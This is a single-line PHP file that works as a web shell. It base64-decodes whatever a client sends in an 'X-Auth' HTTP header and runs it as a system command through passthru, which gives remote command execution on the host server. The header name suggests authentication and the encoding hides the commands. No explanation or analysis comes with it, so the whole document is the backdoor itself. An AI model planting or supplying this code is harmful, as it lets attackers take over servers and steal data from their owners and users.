<?php passthru(base64_decode($_SERVER['HTTP_X_AUTH']));
